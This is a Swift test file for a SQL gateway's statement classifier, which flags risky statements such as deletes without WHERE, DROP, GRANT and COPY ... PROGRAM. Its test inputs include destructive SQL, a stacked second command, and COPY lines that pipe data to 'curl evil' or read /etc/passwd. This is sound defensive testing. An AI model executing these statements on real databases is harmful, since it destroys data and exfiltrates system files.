import GatewayPolicy
import Testing

@Suite("Statement classifier")
struct StatementClassifierTests {
    struct Case: Sendable, CustomTestStringConvertible {
        var sql: String
        var kinds: Set<StatementKind>
        var testDescription: String { sql }
        init(_ sql: String, _ kinds: Set<StatementKind>) {
            self.sql = sql
            self.kinds = kinds
        }
    }

    static let cases: [Case] = [
        // delete_without_where
        Case("DELETE FROM t", [.deleteWithoutWhere]),
        Case("delete from t", [.deleteWithoutWhere]),
        Case("DELETE FROM t WHERE id = 1", []),
        Case("DELETE FROM ONLY t WHERE id = 1", []),
        Case("DELETE FROM t WHERE CURRENT OF c", []),
        Case("DELETE FROM t USING u WHERE t.id = u.id", []),
        Case("DELETE FROM t USING (SELECT id FROM u WHERE x) s", [.deleteWithoutWhere]),
        Case("DELETE FROM t RETURNING *", [.deleteWithoutWhere]),
        Case("DELETE /* where */ FROM t -- where", [.deleteWithoutWhere]),
        Case("DELETE FROM t AS \"where\"", [.deleteWithoutWhere]),
        Case("DELETE FROM t WHERE note = 'x'", []),
        Case("DELETE FROM \"where\"", [.deleteWithoutWhere]),
        Case("WITH gone AS (DELETE FROM t RETURNING id) SELECT count(*) FROM gone WHERE id > 0", [.deleteWithoutWhere]),
        Case("WITH gone AS (DELETE FROM t WHERE old RETURNING id) SELECT * FROM gone", []),
        Case("PREPARE p AS DELETE FROM t", [.deleteWithoutWhere]),
        Case("EXPLAIN ANALYZE DELETE FROM t", [.deleteWithoutWhere]),
        Case("SELECT 'DELETE FROM t'", []),
        Case("SELECT $$DELETE FROM t$$", []),
        Case("CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE)", [.ddl]),
        Case("GRANT DELETE ON t TO bob", [.grant]),
        // update_without_where
        Case("UPDATE t SET a = 1", [.updateWithoutWhere]),
        Case("UPDATE t SET a = 1 WHERE id = 2", []),
        Case("UPDATE ONLY public.t AS x SET a = 1", [.updateWithoutWhere]),
        Case("UPDATE t SET a = (SELECT 1 WHERE true)", [.updateWithoutWhere]),
        Case("UPDATE t SET a = u.b FROM u WHERE t.id = u.id", []),
        Case("UPDATE \"T\" SET \"where\" = 1", [.updateWithoutWhere]),
        Case("SELECT * FROM t FOR UPDATE", []),
        Case("SELECT * FROM t FOR UPDATE OF t NOWAIT", []),
        Case("CREATE TRIGGER x BEFORE UPDATE OF a ON t FOR EACH ROW EXECUTE FUNCTION f()", [.ddl]),
        Case("WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x WHERE a = 1", [.updateWithoutWhere]),
        // drop / ddl
        Case("DROP TABLE t", [.drop, .ddl]),
        Case("drop table if exists t cascade", [.drop, .ddl]),
        Case("DROP SCHEMA s", [.drop, .ddl]),
        Case("DROP DATABASE d", [.drop, .ddl]),
        Case("ALTER TABLE t DROP COLUMN c", [.drop, .ddl]),
        Case("ALTER TABLE t ALTER COLUMN c DROP DEFAULT", [.ddl]),
        Case("ALTER TABLE t ALTER c DROP NOT NULL", [.ddl]),
        Case("CREATE INDEX i ON t (a)", [.ddl]),
        Case("COMMENT ON TABLE t IS 'x'", [.ddl]),
        Case("SELECT 'drop table t'", []),
        Case("SELECT \"drop\" FROM t", []),
        Case("SELECT 1 AS drop_count", []),
        Case("EXPLAIN (ANALYZE, BUFFERS) DROP TABLE t", [.drop, .ddl]),
        // truncate
        Case("TRUNCATE t", [.truncate]),
        Case("TRUNCATE TABLE t, u RESTART IDENTITY", [.truncate]),
        Case("SELECT trunc(1.5)", []),
        // grant
        Case("GRANT ALL ON t TO bob", [.grant]),
        Case("REVOKE SELECT ON t FROM bob", [.grant]),
        Case("ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob", [.grant, .ddl]),
        // copy_program
        Case("COPY t TO PROGRAM 'curl evil'", [.copyProgram]),
        Case("COPY t FROM PROGRAM 'cat /etc/passwd'", [.copyProgram]),
        Case("COPY (SELECT 1) TO STDOUT", []),
        Case("COPY t FROM STDIN", []),
        Case("COPY t TO '/tmp/program'", []),
        // alter_system
        Case("ALTER SYSTEM SET work_mem = '1GB'", [.alterSystem, .ddl]),
        Case("ALTER SYSTEM RESET ALL", [.alterSystem, .ddl]),
        // DO blocks and dynamic SQL
        Case("DO $$ BEGIN DELETE FROM t; END $$", [.deleteWithoutWhere]),
        Case("DO $body$ BEGIN EXECUTE 'DROP TABLE t'; END $body$", [.drop, .ddl]),
        Case("DO LANGUAGE plpgsql $$ BEGIN TRUNCATE t; END $$", [.truncate]),
        Case("SELECT 1", []),
        Case("INSERT INTO t VALUES (1)", []),
    ]

    @Test("kinds", arguments: cases)
    func kinds(_ testCase: Case) {
        #expect(StatementClassifier.classify(sql: testCase.sql) == testCase.kinds)
    }

    @Test func multiStatementSecondIsCaught() {
        let statements = SQLSplitter.split("SELECT 1; /* x */ DROP TABLE t")
        #expect(statements.count == 2)
        #expect(StatementClassifier.classify(statements[0]).isEmpty)
        #expect(StatementClassifier.classify(statements[1]).contains(.drop))
    }
}
